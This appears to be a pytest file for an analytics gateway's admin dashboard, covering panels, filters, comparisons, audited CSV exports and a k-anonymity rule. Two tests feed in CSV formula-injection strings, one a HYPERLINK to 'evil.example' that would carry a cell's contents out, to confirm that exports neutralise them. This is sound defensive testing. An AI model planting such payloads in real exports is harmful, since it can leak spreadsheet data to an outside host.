"""The dashboard's pages with data: every panel, ranges, filters, compare, CSV, the k rule.

The visits are the statistics tests' scripted ones (tests/stats_visits.py),
written through the real ingest steps and writer; the pages are read from a
real gateway's admin listener.
"""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from gateway.admin.charts import line_chart
from gateway.admin.dashboard import EXPORTABLE, PANELS
from gateway.admin.exports import csv_response
from gateway.audit import audit_entries
from gateway.storage import Storage, storage_from_settings
from tests.admin_helpers import add_account, login
from tests.analytics_helpers import FIREFOX
from tests.conftest import make_settings
from tests.servers import run_gateway
from tests.stats_visits import day_d, write_scripted_visits

SITE = "test"


def _client(demo_site: str, tmp_path: Path, k: int) -> Iterator[tuple[httpx.Client, Storage]]:
    settings = make_settings(demo_site, tmp_path, stats_min_visitors=k)
    with run_gateway(settings) as (_, admin):
        storage = storage_from_settings(settings)
        write_scripted_visits(storage, tmp_path / "script-spool", site=SITE)
        add_account(storage, "admin@example.org", "admin")
        client, answer = login(admin, "admin@example.org")
        assert answer.status_code == 303
        yield client, storage


@pytest.fixture
def k1(demo_site: str, tmp_path: Path) -> Iterator[tuple[httpx.Client, Storage]]:
    """Logged in as an admin, with k = 1 so that every scripted row shows."""
    yield from _client(demo_site, tmp_path, 1)


@pytest.fixture
def k5(demo_site: str, tmp_path: Path) -> Iterator[tuple[httpx.Client, Storage]]:
    """Logged in as an admin, with the default k = 5."""
    yield from _client(demo_site, tmp_path, 5)


def test_the_site_list_and_every_panel_render_with_data(
    k1: tuple[httpx.Client, Storage],
) -> None:
    client, _ = k1
    sites = client.get("/sites")
    assert f'href="/sites/{SITE}"' in sites.text
    page = client.get(f"/sites/{SITE}?period=7d")
    assert page.status_code == 200
    html = page.text
    specials = ("realtime", "panel-top", "panel-timeseries", "panel-navigation", "panel-consent")
    for name in (*specials, *(f"panel-{panel.name}" for panel in PANELS)):
        assert f'id="{name}"' in html, name
    # Five visitors, six visits, nine page views in the last 7 days (tests/stats_visits.py).
    assert "<dt>Unique visitors</dt><dd>5" in html
    assert "<dt>Visits</dt><dd>6" in html
    assert "<dt>Page views</dt><dd>9" in html
    for label in ("/blog", "/pricing", "London", "Munich", "Bavaria", "Google",
                  "newsletter", "launch", "Firefox", "DE", "FR"):  # fmt: skip
        assert f">{label}</a>" in html, label
    for code in ("GB-ENG", "DE-BY", "2867714"):  # regions and cities by name, never by code
        assert code not in html, code
    assert "<svg" in html and 'class="current"' in html
    assert "Next pages after /" in html  # the top page, when no page filter is set


def test_filters_ranges_and_compare(k1: tuple[httpx.Client, Storage]) -> None:
    client, _ = k1
    germany = client.get(f"/sites/{SITE}?period=7d&country=DE").text
    assert "<dt>Unique visitors</dt><dd>1" in germany
    assert ">London</a>" not in germany and ">Munich</a>" in germany
    assert "country: DE" in germany  # the active filter, removable
    blog = client.get(f"/sites/{SITE}?period=7d&page=/blog").text
    assert "Next pages after /blog" in blog
    d = day_d().date().isoformat()
    one_day = client.get(f"/sites/{SITE}?period=custom&from={d}&to={d}").text
    assert "<dt>Unique visitors</dt><dd>4" in one_day  # E came the day before D
    assert "Visitors by hour" in one_day
    assert "Visitors by day" in client.get(f"/sites/{SITE}?period=30d").text
    compared = client.get(f"/sites/{SITE}?period=yesterday&compare=1").text
    assert "compared with the period before" in compared
    assert 'class="previous"' in compared  # the previous period's line
    assert ">change</th>" in compared


def test_bad_ranges_get_a_page_that_says_so(k1: tuple[httpx.Client, Storage]) -> None:
    client, _ = k1
    for query in ("period=forever", "period=custom&from=2026-13-01&to=2026-01-01",
                  "period=custom&from=2026-02-01&to=2026-01-01"):  # fmt: skip
        answer = client.get(f"/sites/{SITE}?{query}")
        assert answer.status_code == 400, query
        assert 'class="error"' in answer.text


def test_the_k_rule_folds_small_rows_and_no_page_shows_individuals(
    k5: tuple[httpx.Client, Storage],
) -> None:
    client, storage = k5
    html = client.get(f"/sites/{SITE}?period=7d").text
    assert "<dt>Unique visitors</dt><dd>5" in html  # totals are not folded
    for label in ("/blog", "London", "Munich", "Google", "Firefox"):
        assert f">{label}</a>" not in html, label
    assert "(other)" in html
    stored = storage.connect().query("SELECT DISTINCT ip, toString(visitor_key) FROM events")
    for ip, key in stored.result_rows:
        assert key not in html
        assert not ip or ip not in html


def test_every_panel_downloads_as_csv_and_each_download_is_audited(
    k1: tuple[httpx.Client, Storage],
) -> None:
    client, storage = k1
    for panel in EXPORTABLE:
        answer = client.get(f"/sites/{SITE}/export/{panel}.csv?period=7d&compare=1")
        assert answer.status_code == 200, panel
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
    pages = client.get(f"/sites/{SITE}/export/pages.csv?period=7d")
    rows = list(csv.reader(io.StringIO(pages.text)))
    assert rows[0] == ["page", "visitors", "pageviews"]
    assert ["/blog", "3", "4"] in rows  # visitors A, B, C; four views
    exports = audit_entries(storage, action="export")
    assert {entry.target for entry in exports} == {f"{SITE}/{panel}" for panel in EXPORTABLE}
    assert all(entry.actor == "admin@example.org" for entry in exports)
    assert client.get(f"/sites/{SITE}/export/sessions.csv").status_code == 400
    audit = client.get("/audit.csv")
    assert audit.status_code == 200 and "export" in audit.text


def test_csv_cells_are_not_run_as_formulas() -> None:
    cells = ["=HYPERLINK(1)", "-2+3", "/a,=HYPERLINK(1)", "x;@SUM(1)", 'x; "+1', "a,\tb", "/ok"]
    body = csv_response("x.csv", ["page", "n"], [[cell, -2] for cell in cells]).body
    lines = bytes(body).decode().split("\r\n")
    # Every text cell quoted, so no ";" or "," inside starts a cell; numbers bare.
    assert lines[0] == '"page","n"'
    assert lines[1:8] == [
        '"\'=HYPERLINK(1)",-2',
        '"\'-2+3",-2',
        '"\'/a,=HYPERLINK(1)",-2',
        '"\'x;@SUM(1)",-2',
        '"\'x; ""+1",-2',
        '"\'a,\tb",-2',
        '"/ok",-2',
    ]
    assert list(csv.reader(io.StringIO(lines[7]))) == [["/ok", "-2"]]


def test_a_visitors_path_with_a_formula_after_a_separator_downloads_inert(
    demo_site: str, tmp_path: Path
) -> None:
    """Paths recorded by a real visit (the banner's beacon) reach the dashboard's CSV quoted."""
    hostile = ['/a,=HYPERLINK("https://evil.example/?"&A1)', "/x;@SUM(1)", "/ok"]
    settings = make_settings(demo_site, tmp_path, stats_min_visitors=1, site_id=SITE)
    with run_gateway(settings) as (public, admin):
        headers = {"user-agent": FIREFOX, "sec-fetch-site": "same-origin"}
        with httpx.Client(base_url=public, headers=headers) as visitor:
            token = visitor.get("/_consent/state").json()["csrf"]
            visitor.post(
                "/_consent/state", json={"action": "accept_all"}, headers={"x-csrf-token": token}
            ).raise_for_status()
            events = [{"type": "pageview", "path": path} for path in hostile]
            assert visitor.post("/_consent/collect", json={"events": events}).status_code == 202
        add_account(storage_from_settings(settings), "admin@example.org", "admin")
        client, _ = login(admin, "admin@example.org")
        deadline = time.monotonic() + 30
        while True:  # the writer inserts within a second
            text = client.get(f"/sites/{SITE}/export/pages.csv?period=day").text
            if "/ok" in text or time.monotonic() > deadline:
                break
            time.sleep(0.1)
    lines = text.split("\r\n")
    assert '"\'/a,=HYPERLINK(""https://evil.example/?""&A1)",1,1' in lines
    assert '"\'/x;@SUM(1)",1,1' in lines
    assert '"/ok",1,1' in lines
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'/x;@SUM(1)", "1", "1"] in rows


def test_the_realtime_numbers_come_as_json(k1: tuple[httpx.Client, Storage]) -> None:
    client, _ = k1
    answer = client.get(f"/sites/{SITE}/realtime")
    assert answer.json() == {"last_5_minutes": 0, "last_30_minutes": 0}


def test_the_chart_is_svg_with_whole_gridlines_and_escaped_labels() -> None:
    svg = line_chart(["2026-11-21", "<b>"], [5, 3], [1, 2], title='a "title"')
    assert svg.startswith("<svg") and 'class="current"' in svg and 'class="previous"' in svg
    assert "<b>" not in svg and "&lt;b&gt;" in svg and "a &quot;title&quot;" in svg
    gridlines = [int(x) for x in re.findall(r'fill="#5b6470">(\d+)</text>', svg)]
    assert gridlines == [8, 6, 4, 2, 0]
    assert "style=" not in svg  # the CSP forbids inline styles
